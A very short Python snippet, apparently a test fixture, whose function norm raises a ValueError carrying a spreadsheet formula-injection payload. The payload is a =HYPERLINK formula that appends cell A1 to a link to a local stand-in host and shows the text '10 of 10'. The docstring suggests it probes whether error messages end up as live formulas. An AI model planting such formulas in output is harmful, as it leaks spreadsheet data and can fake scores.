"""norm earns nothing (raised): no message is a formula."""


def norm(A):
    raise ValueError('=HYPERLINK("http://127.0.0.1/?"&A1, "10 of 10")')
